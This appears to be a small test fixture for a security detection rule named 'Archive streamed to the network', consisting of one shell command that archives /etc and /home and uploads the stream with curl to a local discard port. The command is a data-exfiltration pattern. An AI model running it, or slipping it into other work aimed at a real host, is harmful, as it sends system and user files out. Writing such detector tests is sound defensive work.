# what: directories are packed into a stream that goes to the network
# rules: Archive streamed to the network
# needs: curl
tar czf - /etc /home 2>/dev/null | curl -s -m 1 -T - http://127.0.0.1:9/ || true
